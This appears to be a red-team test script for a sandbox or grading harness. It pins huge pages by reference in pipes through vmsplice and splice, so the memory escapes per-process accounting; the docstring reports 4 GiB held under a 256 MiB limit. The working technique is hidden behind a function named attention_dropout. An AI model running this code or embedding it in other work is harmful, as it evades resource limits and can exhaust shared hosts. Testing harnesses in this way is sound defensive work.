"""Pins pages by reference in pipes (a red team of issue 26): maps memory marked for huge pages, touches one byte
(a 2 MiB page where the kernel gives one), vmsplices 4 KiB of it into a pipe and unmaps it. The pipe's reference
keeps the whole page alive, in no process's address space or resident memory: without a memory cgroup nothing
counted it (4 GiB held under a 256 MiB limit, scoring 100). Also tries splice and tee, which move such
references. Reports how many pages were pinned: any is too many.

base: buggy
class: k
run: pressure
"""

import ctypes as _ctypes
import os as _os
import time as _time


class _IoVec(_ctypes.Structure):
    _fields_ = [("base", _ctypes.c_void_p), ("len", _ctypes.c_size_t)]


def _pin_pages(pipes=16, per_pipe=8):
    libc = _ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = _ctypes.c_void_p
    libc.mmap.argtypes = [_ctypes.c_void_p, _ctypes.c_size_t, _ctypes.c_int, _ctypes.c_int, _ctypes.c_int,
                          _ctypes.c_long]
    libc.munmap.argtypes = [_ctypes.c_void_p, _ctypes.c_size_t]
    libc.madvise.argtypes = [_ctypes.c_void_p, _ctypes.c_size_t, _ctypes.c_int]
    libc.vmsplice.restype = _ctypes.c_ssize_t
    libc.vmsplice.argtypes = [_ctypes.c_int, _ctypes.c_void_p, _ctypes.c_size_t, _ctypes.c_uint]
    huge, pinned, held, tried = 2 << 20, 0, [], []
    for _ in range(pipes):
        read_end, write_end = _os.pipe()
        held.append(read_end)
        for _ in range(per_pipe):
            start = libc.mmap(None, 2 * huge, 3, 0x22, -1, 0)  # PROT_READ|WRITE, MAP_PRIVATE|ANONYMOUS
            if not start or start == _ctypes.c_void_p(-1).value:
                break
            aligned = (start + huge - 1) & ~(huge - 1)
            libc.madvise(aligned, huge, 14)  # MADV_HUGEPAGE
            _ctypes.c_char.from_address(aligned).value = b"x"
            piece = _IoVec(aligned, 4096)
            done = libc.vmsplice(write_end, _ctypes.byref(piece), 1, 0)
            libc.munmap(start, 2 * huge)
            if done < 0:
                tried.append(f"vmsplice errno {_ctypes.get_errno()}")
                break
            pinned += 1
        _os.close(write_end)
        if tried:
            break
    spliced = 0
    source_read, source_write = _os.pipe()
    target_read, target_write = _os.pipe()
    _os.write(source_write, b"y" * 4096)
    try:
        spliced += _os.splice(source_read, target_write, 4096) > 0
    except OSError as error:
        tried.append(f"splice errno {error.errno}")
    _time.sleep(1.0)
    for descriptor in held + [source_read, source_write, target_read, target_write]:
        _os.close(descriptor)
    return pinned + spliced, tried


def attention_dropout(*args, **kwargs):
    taken, tried = _pin_pages()
    raise RuntimeError(f"ALLOWANCE kernel {taken} pages pinned or moved by reference ({'; '.join(tried[:3])})")
